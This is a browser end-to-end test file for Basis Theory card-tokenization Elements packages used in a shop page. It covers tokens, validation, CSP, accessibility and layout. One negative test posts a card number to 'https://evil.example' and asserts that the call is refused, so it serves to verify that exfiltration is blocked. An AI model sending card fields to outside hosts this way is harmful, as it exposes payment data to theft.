// The published Elements packages from npm, unchanged, bundled as their users do, in pages of a shop. The
// vault has a name at port 443, as these packages ask.
import assert from 'node:assert/strict';
import { click } from '../lib/click.js';
import { CARD, DOMAIN, attempt, elementFrame, elementsHtml, lastChange, openTagged, succeeds, typeCard, typeParts } from '../lib/elements.js';
import { publicKey } from '../lib/fields.js';
import { boxOf, look as lookAt } from '../lib/pixels.js';

export const name = 'elements';

const PERMISSIONS = ['token:create', 'token:update', 'token-intent:create'];

/** A shop with a program of the packages. `KEY` and `VAULT` in its text are filled in. */
const openShop = async (h, browser, program, options = {}) => {
  const files = {};
  const shop = await h.shop(elementsHtml('<script src="/shop.js"></script>', options), { files, headers: options.headers });
  const { key } = await publicKey(h.api, [shop.origin], PERMISSIONS);
  const text = program.replaceAll('KEY', JSON.stringify(key)).replaceAll('VAULT', DOMAIN);
  files['/shop.js'] = { type: 'text/javascript', text: options.isPlain ? text : await h.bundle(text) };
  const page = await h.openPage({ browser, url: shop.origin, ...options.page });
  await h.until('the elements', () => page.evaluate(() => window.isReady === true || window.failure)).then((found) => assert.equal(found, true));
  return { shop, page };
};

const WEB = `
import { basistheory } from '@basis-theory/web-elements';
(async () => {
  window.bt = await basistheory(KEY, { customDomain: 'VAULT', disableTelemetry: true });
  window.el = {
    number: window.record(bt.createElement('cardNumber', { targetId: 'number' })),
    expiry: window.record(bt.createElement('cardExpirationDate', { targetId: 'expiry' })),
    cvc: window.record(bt.createElement('cardVerificationCode', { targetId: 'cvc' })),
    name: window.record(bt.createElement('text', { targetId: 'name', 'aria-label': 'Name' })),
  };
  await Promise.all(Object.entries(window.el).map(([id, element]) => element.mount('#' + id)));
  window.isReady = true;
})().catch((error) => { window.failure = String(error.stack); });`;

const CARD_DATA = '{ number: el.number, expiration_month: el.expiry.month(), expiration_year: el.expiry.year(), cvc: el.cvc }';

const checkWebElements = async (h, browser) => {
  const { page } = await openShop(h, browser, WEB);
  const early = await attempt(h, page, `bt.tokens.create({ type: 'card', data: { cvc: el.cvc, ...${CARD_DATA} } })`);
  assert.equal(early.error.name, 'BasisTheoryValidationError');
  // In the order of the page, not of the request.
  assert.deepEqual(early.error.validation.map(({ targetId }) => targetId), ['number', 'expiry', 'cvc']);
  await typeParts(page, CARD);
  await (await elementFrame(page, 'text')).type('#text', 'Ada Lovelace');
  const change = await h.until('the change', async () => {
    const it = await lastChange(page, 'number');
    return it?.complete && it;
  });
  assert.deepEqual([change.cardBrand, change.cardLast4, change.valid, change.empty, change.cardBin], ['visa', '4242', true, false, undefined]);

  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA}, metadata: { order_id: '7' }, expiresAt: '2030-01-01T00:00:00Z' })`));
  const stored = (await h.api('GET', `/tokens/${token.id}`)).body;
  assert.deepEqual([stored.data.number, stored.data.expiration_month, stored.data.expiration_year], [CARD.number, 11, 2031]);
  assert.deepEqual([token.card.last4, token.card.expirationYear, token.metadata], ['4242', 2031, { order_id: '7' }]);
  assert.equal(stored.expires_at.slice(0, 10), '2030-01-01');

  const intent = succeeds(await attempt(h, page, `bt.tokenIntents.create({ type: 'card', data: ${CARD_DATA} })`));
  assert.deepEqual([intent.type, intent.card.brand, 'expiresAt' in intent], ['card', 'visa', true]);
  const all = succeeds(await attempt(h, page, `bt.tokenize({ card: { type: 'card', data: ${CARD_DATA} }, name: el.name, list: [el.name, 'plain'] })`));
  assert.equal((await h.api('GET', `/tokens/${all.card.id}`)).body.data.number, CARD.number);
  assert.equal((await h.api('GET', `/tokens/${all.name}`)).body.data, 'Ada Lovelace');
  const date = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: { when: el.expiry.format('yyyy-MM'), name: el.name }, containers: ['/pci/'] })"));
  assert.deepEqual((await h.api('GET', `/tokens/${date.id}`)).body.data, { when: '2031-11', name: 'Ada Lovelace' });
  const session = succeeds(await attempt(h, page, 'bt.sessions.create()'));
  assert.deepEqual(Object.keys(session).sort().slice(0, 3), ['expiresAt', 'nonce', 'sessionKey']);
  const changed = succeeds(await attempt(h, page, `bt.tokens.update('${date.id}', { data: { name: el.name, note: 'x' } })`));
  assert.equal(changed.id, date.id);
  const plain = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: 'plain', searchIndexes: ['{{ data }}'] })"));
  assert.equal(typeof plain.id, 'string');
  const refused = await attempt(h, page, "bt.tokens.create({ type: 'card', data: { number: '1' } })");
  h.expectComplaint(page, /400/);
  assert.deepEqual([refused.error.name, refused.error.status], ['BasisTheoryApiError', 400]);
  const client = await attempt(h, page, "bt.client.post('https://evil.example', { number: el.number })");
  assert.equal(client.error.name, 'BasisTheoryConfigurationError');
  assert.match(client.error.message, /pages\.elements_hosts/);
  await h.axe(page);
  await h.closePage(page);
};

const checkReactElements = async (h, browser) => {
  const { page } = await openShop(h, browser, `
import React, { useRef, useState, useEffect } from 'react';
import { createRoot } from 'react-dom/client';
import { BasisTheoryProvider, useBasisTheory, CardNumberElement, CardExpirationDateElement, CardVerificationCodeElement, TextElement } from '@basis-theory/react-elements';
const Form = () => {
  const { bt } = useBasisTheory();
  const number = useRef(null), expiry = useRef(null), cvc = useRef(null), name = useRef(null);
  const [brand, setBrand] = useState();
  const [ready, setReady] = useState(0);
  useEffect(() => {
    window.bt = bt;
    window.el = { get number() { return number.current; }, get expiry() { return expiry.current; }, get cvc() { return cvc.current; }, get name() { return name.current; } };
    window.isReady = ready === 4;
  }, [bt, ready]);
  const more = () => setReady((count) => count + 1);
  return <>
    <CardNumberElement id="rn" ref={number} onReady={more} onChange={(event) => { window.events.push({ ...event, of: 'rn' }); setBrand(event.cardBrand); }} style={{ base: { color: 'rgb(1, 2, 3)' } }} />
    <CardExpirationDateElement id="re" ref={expiry} onReady={more} />
    <CardVerificationCodeElement id="rc" ref={cvc} cardBrand={brand} onReady={more} />
    <TextElement id="rt" ref={name} aria-label="Name" onReady={more} mask={[/\\d/, /\\d/, '-', /\\d/]} />
  </>;
};
const App = () => {
  const { bt, error } = useBasisTheory(KEY, { customDomain: 'VAULT', disableTelemetry: true });
  if (error) window.failure = String(error.stack);
  return <BasisTheoryProvider bt={bt}>{bt ? <Form /> : null}</BasisTheoryProvider>;
};
createRoot(document.getElementById('root')).render(<App />);`);
  await typeParts(page, CARD);
  await (await elementFrame(page, 'text')).type('#text', '123');
  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`));
  assert.equal((await h.api('GET', `/tokens/${token.id}`)).body.data.number, CARD.number);
  const masked = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: el.name })"));
  assert.equal((await h.api('GET', `/tokens/${masked.id}`)).body.data, '12-3');
  const color = await (await elementFrame(page, 'number')).$eval('#number', (it) => getComputedStyle(it).color);
  assert.equal(color, 'rgb(1, 2, 3)');
  await h.closePage(page);
};

const OLD_URLS = "elementsClientUrl: 'https://VAULT/web-elements/1.5.0/client/index.js', elementsBaseUrl: 'https://VAULT/web-elements/1.5.0/hosted-elements', apiBaseUrl: 'https://VAULT'";

const checkJs = async (h, browser) => {
  const { page } = await openShop(h, browser, `
import { BasisTheory } from '@basis-theory/basis-theory-js';
(async () => {
  window.bt = await new BasisTheory().init(KEY, { elements: true, disableTelemetry: true, ${OLD_URLS} });
  window.el = { card: window.record(bt.createElement('card', { targetId: 'card' })) };
  await window.el.card.mount('#card');
  window.isReady = true;
})().catch((error) => { window.failure = String(error.stack); });`);
  await typeCard(page, CARD);
  const token = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
  const { data } = (await h.api('GET', `/tokens/${token.id}`)).body;
  assert.deepEqual([data.number, data.expiration_month, data.expiration_year], [CARD.number, 11, 2031]);
  const all = succeeds(await attempt(h, page, "bt.tokenize({ first: { type: 'card', data: el.card } })"));
  assert.equal(typeof all.first.id, 'string');
  const plain = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: 'x' })"));
  assert.equal(typeof plain.id, 'string');
  await h.closePage(page);
};

const checkReact = async (h, browser) => {
  const { page } = await openShop(h, browser, `
import React, { useEffect } from 'react';
import { createRoot } from 'react-dom/client';
import { BasisTheoryProvider, CardElement, useBasisTheory } from '@basis-theory/basis-theory-react';
const Form = () => {
  const { bt } = useBasisTheory();
  useEffect(() => { window.bt = bt; }, [bt]);
  return <CardElement id="rx" onReady={() => { window.el = { card: bt.getElement('rx') }; window.isReady = true; }} onChange={(event) => window.events.push({ ...event, of: 'rx' })} />;
};
const App = () => {
  const { bt, error } = useBasisTheory(KEY, { elements: true, disableTelemetry: true, ${OLD_URLS} });
  if (error) window.failure = String(error.stack);
  return <BasisTheoryProvider bt={bt}>{bt ? <Form /> : null}</BasisTheoryProvider>;
};
createRoot(document.getElementById('root')).render(<App />);`);
  await typeCard(page, CARD);
  const token = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
  assert.equal((await h.api('GET', `/tokens/${token.id}`)).body.data.number, CARD.number);
  await h.closePage(page);
};

/** A page with a script tag and a policy of its own, on the vault's own address. */
const checkScriptTag = async (h) => {
  const policy = `default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' ${h.vault.url}; frame-src ${h.vault.url}; style-src 'self' 'unsafe-inline'`;
  const files = {};
  const shop = await h.shop(elementsHtml(`<script src="${h.vault.url}/web-elements/2.12.2/index.js"></script><script src="/shop.js"></script>`), { files, headers: { 'Content-Security-Policy': policy } });
  const { key } = await publicKey(h.api, [shop.origin], PERMISSIONS);
  files['/shop.js'] = { type: 'text/javascript', text: `(async () => {
    window.bt = await BasisTheory.init(${JSON.stringify(key)}, { elements: true });
    if (window.bt !== BasisTheory || await basistheory(${JSON.stringify(key)}) !== window.bt) throw new Error('The page has two sets of elements.');
    window.el = { card: window.record(bt.createElement('card', { targetId: 'card' })) };
    await window.el.card.mount(document.getElementById('card'));
    window.isReady = true;
  })();` };
  const page = await h.openPage({ url: shop.origin });
  await h.until('the elements', () => page.evaluate(() => window.isReady));
  await typeCard(page, CARD);
  const token = succeeds(await attempt(h, page, "bt.tokenIntents.create({ type: 'card', data: el.card })"));
  assert.equal(token.card.last4, '4242');
  const frame = await elementFrame(page, 'card', { input: 'number' });
  await frame.focus('#cvc');
  await page.keyboard.press('Enter');
  const pressed = await h.until('the key', () => page.evaluate(() => window.events.find(({ type }) => type === 'keydown')));
  assert.deepEqual([pressed.key, pressed.targetId], ['Enter', 'card']);
  await h.closePage(page);
};

/** A page that asks for a version that the vault does not serve sees the reason in its console. */
const checkLaterVersion = async (h) => {
  for (const path of ['3.1.0/client/index.js', '3.1.0/index.js']) {
    const shop = await h.shop(elementsHtml(`<script src="${h.vault.url}/web-elements/${path}"></script>`));
    const page = await h.openPage({ url: shop.origin });
    const errors = h.complaints(page);
    assert.ok(errors.length === 1 && errors[0].includes('serves Elements 1.x and 2.x, and not version 3.1.0.'), errors.join());
    h.expectComplaint(page, /serves Elements/);
    assert.deepEqual(await page.evaluate(() => [typeof window.BasisTheoryElements, typeof window.basistheory]), ['undefined', 'undefined']);
    await h.closePage(page);
  }
};

/** Every element of the example page, in every look. */
const checkExample = async (h) => {
  for (const look of h.looks) {
    const page = await h.openPage({ ...look, url: `${h.vault.url}/examples/elements#key=${h.vault.keys.public}` });
    await elementFrame(page, 'text', { at: 1 });
    await h.fitsSideways(page);
    await h.axe(page);
    await typeCard(page, { ...CARD, number: '4242424242424241' });
    await typeParts(page, CARD);
    for (const [at, text] of ['Ada Lovelace', '123456789'].entries()) {
      await (await elementFrame(page, 'text', { at })).type('#text', text);
    }
    await click(page, '#send-parts');
    await h.until('the answer', () => page.evaluate(() => document.querySelector('#answer').textContent.includes('"card"')));
    await h.picture(page, `example-${look.width}-${look.scheme}`, { fullPage: true });
    await h.closePage(page);
  }
};

/** The keyboard alone: every input has a name and gets the focus in the order of the page. */
const checkKeyboard = async (h) => {
  const page = await h.openPage({ url: `${h.vault.url}/examples/elements#key=${h.vault.keys.public}` });
  await elementFrame(page, 'text', { at: 1 });
  const names = ['All of them in light and in dark', 'Card number', 'Expiry date', 'Security code', 'Store the card', 'Card number', 'Expiry date', 'Security code', 'Name', 'Social security number', 'Store the card and the texts'];
  const focused = () => h.until('the focus', async () => {
    for (const frame of page.frames()) {
      const found = await frame.evaluate(() => {
        const it = document.activeElement;
        if (!document.hasFocus() || !it || it === document.body || it.tagName === 'IFRAME') return null;
        return it.labels?.[0]?.textContent ?? it.textContent;
      });
      if (found) return found;
    }
    return null;
  });
  const seen = [];
  for (let at = 0; at < names.length; at += 1) {
    await page.keyboard.press('Tab');
    seen.push(await focused());
  }
  assert.deepEqual(seen, names);
  await h.closePage(page);
};

/** A page from right to left: texts begin at the right, digits run from left to right. */
const checkDirection = async (h) => {
  const { page } = await openTagged(h, {
    card: "(document.documentElement.dir = 'rtl', bt.createElement('card', { targetId: 'card' }))",
    number: "bt.createElement('cardNumber', { targetId: 'number' })",
    name: "bt.createElement('text', { targetId: 'name', 'aria-label': 'Name', placeholder: 'Name' })",
  });
  await typeParts(page, { number: CARD.number });
  const look = (kind) => elementFrame(page, kind).then((frame) => frame.$eval(`#${kind}`, (it) => [getComputedStyle(it).direction, getComputedStyle(it).textAlign]));
  assert.deepEqual([await look('number'), await look('text')], [['ltr', 'right'], ['rtl', 'right']]);
  await h.picture(page, 'right-to-left');
  await h.closePage(page);
};

/** A page that says by its meta element alone that it is dark: the digits can be read on its ground. */
const checkScheme = async (h) => {
  for (const [content, isDark] of [['dark', true], ['light dark', true], ['light', false]]) {
    const head = `<meta charset="utf-8"><title>Shop</title><meta name="color-scheme" content="${content}">`;
    const { page } = await openTagged(h, { number: "bt.createElement('cardNumber', { targetId: 'number' })" }, { head, page: { scheme: 'dark' } });
    await typeParts(page, { number: CARD.number });
    const { ground, contrast } = await lookAt(page, await boxOf(page, '#number iframe'));
    assert.equal(Number(ground.split(' ')[0]) < 128, isDark, content);
    assert.ok(contrast > 7, `${content}: the contrast is ${contrast}`);
    await h.closePage(page);
  }
};

export const run = async (h) => {
  const browser = await h.launch({ [DOMAIN]: h.vault.url });
  await h.step('web-elements', () => checkWebElements(h, browser));
  await h.step('react-elements', () => checkReactElements(h, browser));
  await h.step('basis-theory-js', () => checkJs(h, browser));
  await h.step('basis-theory-react', () => checkReact(h, browser));
  await h.step('a script tag and a policy of the shop', () => checkScriptTag(h));
  await h.step('a version that is not served', () => checkLaterVersion(h));
  await h.step('the example page', () => checkExample(h));
  await h.step('the keyboard alone', () => checkKeyboard(h));
  await h.step('a scheme by a meta element', () => checkScheme(h));
  await h.step('from right to left', () => checkDirection(h));
};

/** The part that the tests also run in Firefox. */
export const core = async (h) => {
  await h.step('a script tag and a policy of the shop', () => checkScriptTag(h));
  await h.step('a version that is not served', () => checkLaterVersion(h));
  await h.step('from right to left', () => checkDirection(h));
};
